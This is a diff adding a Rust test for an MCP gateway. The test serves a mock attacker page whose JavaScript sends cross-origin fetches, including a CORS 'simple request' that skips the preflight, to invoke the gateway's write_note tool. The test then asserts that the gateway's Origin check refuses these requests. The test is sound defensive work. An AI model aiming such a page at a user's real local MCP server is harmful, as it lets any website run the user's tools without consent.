@@ -915,3 +915,254 @@ fn the_data_directory_and_the_store_are_private() {
     assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
     assert_eq!(mode(&store), 0o600);
 }
+
+/// The attacker's page: three `fetch`es of the gateway at `?gw=URL`, each
+/// outcome (the status and body the page could read, or the error it got)
+/// posted back to `/report` on the page's own server.
+///
+/// `list` and `call` are what an MCP client in a page would send
+/// (`Content-Type: application/json` and the MCP headers, so the browser
+/// asks first with a CORS preflight); `simple` is a "simple request"
+/// (`text/plain`, only safelisted headers) that the browser sends without asking,
+/// so only the server's own Origin check stands in its way.
+const ATTACKER_PAGE: &str = r#"<!doctype html>
+<html><body><pre id="result">pending</pre><script>
+const gw = new URLSearchParams(location.search).get("gw");
+const meta = {"io.modelcontextprotocol/protocolVersion": "2026-07-28",
+              "io.modelcontextprotocol/clientCapabilities": {}};
+const mcpHeaders = (method, name) => {
+  const h = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream",
+             "MCP-Protocol-Version": "2026-07-28", "Mcp-Method": method};
+  if (name) h["Mcp-Name"] = name;
+  return h;
+};
+const out = {};
+async function attempt(name, init) {
+  try {
+    const r = await fetch(gw, init);
+    out[name] = {status: r.status, body: await r.text()};
+  } catch (e) {
+    out[name] = {error: String(e)};
+  }
+}
+(async () => {
+  await attempt("list", {method: "POST", headers: mcpHeaders("tools/list"),
+    body: JSON.stringify({jsonrpc: "2.0", id: 1, method: "tools/list", params: {_meta: meta}})});
+  const note = {jsonrpc: "2.0", id: 2, method: "tools/call",
+    params: {name: "write_note", arguments: {text: "planted by a web page"}, _meta: meta}};
+  await attempt("call", {method: "POST", headers: mcpHeaders("tools/call", "write_note"),
+    body: JSON.stringify(note)});
+  // Both headers are CORS-safelisted: no preflight.
+  await attempt("simple", {method: "POST",
+    headers: {"Content-Type": "text/plain", "Accept": "application/json, text/event-stream"},
+    body: JSON.stringify(note)});
+  document.getElementById("result").textContent = "done";
+  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
+})();
+</script></body></html>
+"#;
+
+/// The attacker's web server on its own loopback port (another origin
+/// than the gateway's): `GET` of anything is [`ATTACKER_PAGE`], `POST
+/// /report` hands the body to `reports`. Stops when dropped.
+struct AttackerSite {
+    origin: String,
+    reports: std::sync::mpsc::Receiver<String>,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+}
+
+impl Drop for AttackerSite {
+    fn drop(&mut self) {
+        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    }
+}
+
+fn attacker_site() -> AttackerSite {
+    use std::sync::atomic::{AtomicBool, Ordering};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind loopback");
+    let origin = format!("http://{}", listener.local_addr().expect("address"));
+    listener.set_nonblocking(true).expect("non-blocking");
+    let stop = std::sync::Arc::new(AtomicBool::new(false));
+    let (sender, reports) = std::sync::mpsc::channel();
+    let stopped = stop.clone();
+    std::thread::spawn(move || {
+        while !stopped.load(Ordering::Relaxed) {
+            match listener.accept() {
+                Ok((stream, _)) => serve_attacker(stream, &sender),
+                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
+                    std::thread::sleep(std::time::Duration::from_millis(10));
+                }
+                Err(_) => return,
+            }
+        }
+    });
+    AttackerSite {
+        origin,
+        reports,
+        stop,
+    }
+}
+
+/// One request on one connection (each answer closes it).
+fn serve_attacker(stream: std::net::TcpStream, reports: &std::sync::mpsc::Sender<String>) {
+    use std::io::Read;
+    let _ = stream.set_nonblocking(false);
+    let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(10)));
+    let mut reader = BufReader::new(&stream);
+    let mut request_line = String::new();
+    if reader.read_line(&mut request_line).is_err() {
+        return;
+    }
+    let mut length = 0;
+    loop {
+        let mut line = String::new();
+        if reader.read_line(&mut line).unwrap_or(0) == 0 || line.trim().is_empty() {
+            break;
+        }
+        if let Some((name, value)) = line.split_once(':')
+            && name.eq_ignore_ascii_case("content-length")
+        {
+            length = value.trim().parse().unwrap_or(0);
+        }
+    }
+    let mut body = vec![0; length];
+    if reader.read_exact(&mut body).is_err() {
+        return;
+    }
+    let (status, content_type, answer) = if request_line.starts_with("POST /report ") {
+        let _ = reports.send(String::from_utf8_lossy(&body).into_owned());
+        ("204 No Content", "text/plain", "")
+    } else if request_line.starts_with("GET /?") {
+        ("200 OK", "text/html; charset=utf-8", ATTACKER_PAGE)
+    } else {
+        ("404 Not Found", "text/plain", "")
+    };
+    let mut stream = &stream;
+    let _ = write!(
+        stream,
+        "HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{answer}",
+        answer.len()
+    );
+}
+
+/// Chromium on `PATH`, or `None` (outside CI only) with a skip message.
+fn chromium() -> Option<std::path::PathBuf> {
+    let path = std::env::var_os("PATH").unwrap_or_default();
+    let found = std::env::split_paths(&path)
+        .flat_map(|dir| ["chromium", "chromium-browser"].map(|name| dir.join(name)))
+        .find(|candidate| candidate.is_file());
+    match found {
+        Some(found) => Some(found),
+        None => common::missing(
+            std::path::Path::new("chromium"),
+            "install it (Debian: apt-get install chromium) to run the browser test",
+        ),
+    }
+}
+
+/// Opens `url` in headless Chromium with a fresh profile and waits for
+/// the page's report (the page posts it when its fetches are done).
+fn run_page(browser: &std::path::Path, site: &AttackerSite, url: &str) -> Value {
+    let profile = tempfile::tempdir().expect("tempdir");
+    let mut chromium = std::process::Command::new(browser)
+        .args([
+            "--headless",
+            "--no-sandbox",
+            "--disable-gpu",
+            "--disable-quic",
+            "--no-first-run",
+            "--disable-background-networking",
+            "--disable-component-update",
+            "--disable-sync",
+            "--disable-extensions",
+            // Containers often have a tiny /dev/shm.
+            "--disable-dev-shm-usage",
+            "--virtual-time-budget=10000",
+        ])
+        .arg(format!("--user-data-dir={}", profile.path().display()))
+        .args(["--dump-dom", url])
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("chromium starts");
+    let report = site.reports.recv_timeout(PATIENCE);
+    let _ = chromium.kill();
+    let _ = chromium.wait();
+    let report = report.expect("the page never reported (did Chromium load it?)");
+    serde_json::from_str(&report).expect("the page's report is JSON")
+}
+
+/// A web page from another origin in a real browser (headless Chromium)
+/// cannot use the gateway: the preflight of an MCP `fetch` and a "simple"
+/// `text/plain` POST alike are refused by Origin (403, logged), the write
+/// tool never runs, and the page reads nothing. The same page, its origin
+/// listed in `allowed_origins`, lists the tools and calls one: so the page
+/// and the browser do work, and the refusal is the gateway's.
+#[test]
+fn a_page_from_another_origin_cannot_call_the_gateway_from_a_browser() {
+    let Some(browser) = chromium() else {
+        return;
+    };
+    let site = attacker_site();
+    let config_for = |extra: &str| {
+        format!(
+            "[gateway]\nstore = \"memory\"\nallow_write = true\nprefix = \"never\"\n{extra}\n{DEMO}"
+        )
+    };
+
+    // The default config: only the gateway's own loopback origins.
+    let dir = tempfile::tempdir().expect("tempdir");
+    let served = serve(&write_config(dir.path(), &config_for("")));
+    let authority = served.authority();
+    let page = format!("{}/?gw={}", site.origin, served.url);
+    let outcome = run_page(&browser, &site, &page);
+    for attempt in ["list", "call", "simple"] {
+        let seen = &outcome[attempt];
+        assert!(
+            seen["error"]
+                .as_str()
+                .is_some_and(|e| e.contains("Failed to fetch")),
+            "the page read an answer to {attempt}: {outcome}"
+        );
+    }
+    let refusals: Vec<String> = served
+        .lines_so_far(std::time::Duration::from_millis(500))
+        .into_iter()
+        .filter(|l| l.contains("refused a request"))
+        .collect();
+    let from_page = format!(r#"Origin "{}""#, site.origin);
+    // Two preflights and the simple POST, each refused by Origin.
+    assert_eq!(
+        refusals
+            .iter()
+            .filter(|l| l.contains(&from_page) && l.contains("status=403"))
+            .count(),
+        3,
+        "{refusals:#?}"
+    );
+    // The page's note was never written: ours is the first.
+    let (status, response) = mcp(
+        &authority,
+        &json!({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": "write_note", "arguments": {"text": "ours"}}}),
+    );
+    assert_eq!(status, 200, "{response}");
+    assert!(response.contains("saved note 1"), "{response}");
+    drop(served);
+
+    // The page's origin admitted: it reads the tool list and its call runs.
+    let dir = tempfile::tempdir().expect("tempdir");
+    let listed = format!("allowed_origins = [\"{}\"]\n", site.origin);
+    let served = serve(&write_config(dir.path(), &config_for(&listed)));
+    let page = format!("{}/?gw={}", site.origin, served.url);
+    let outcome = run_page(&browser, &site, &page);
+    assert_eq!(outcome["list"]["status"], 200, "{outcome}");
+    let list = outcome["list"]["body"].as_str().unwrap_or_default();
+    assert!(
+        list.contains("\"write_note\"") && list.contains("\"echo\""),
+        "{outcome}"
+    );
+    assert_eq!(outcome["call"]["status"], 200, "{outcome}");
+    let call = outcome["call"]["body"].as_str().unwrap_or_default();
+    assert!(call.contains("saved note 1"), "{outcome}");
+}
